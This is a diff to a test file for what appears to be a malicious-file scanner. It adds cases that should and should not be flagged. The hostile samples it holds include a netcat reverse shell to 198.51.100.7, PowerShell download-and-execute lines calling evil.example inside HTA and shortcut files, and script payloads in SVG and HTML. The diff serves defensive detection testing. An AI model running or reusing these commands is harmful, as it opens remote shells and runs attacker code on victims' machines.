@@ -32,6 +32,7 @@ FOUND = {
     "a.hta": b'<script language=VBScript>CreateObject("WScript.Shell").Run "powershell IEX(New-Object Net.WebClient)'
     b".DownloadString('http://e/')\"</script>",
     "a.url": b"[InternetShortcut]\r\nURL=file://evil.example/share/a.vbs\r\n",
+    "listen.sh": b"#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n",
     "a.lnk": lnk("-w hidden -c powershell iex (iwr http://evil.example/a)"),
     "a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cDovL2U=")</script></svg>',
     "a.html": b"<script>var u=new Uint8Array(atob('"
@@ -60,6 +61,12 @@ def test_attacks_are_found(name: str) -> None:
         ("a.html", b"<html><form action='/login'><input type=password></form><script>f()</script></html>"),
         ("a.url", b"[InternetShortcut]\r\nURL=https://good.example/\r\n"),
         ("a.lnk", lnk("report.docx")),
+        ("release.sh", b"#!/bin/sh\nrsync -e ssh a.tgz someone@files.example:/home/a\n"),
+        ("model.xml.js", b"export const model = '<xml/>';"),
+        (
+            "count.html",
+            b'<html><script>document.write(unescape("%3Cscript src=\'" + base + "piwik.js\'%3E%3C/script%3E"))</script>',
+        ),
     ],
 )
 def test_everyday_files_are_clean(name: str, raw: bytes) -> None:
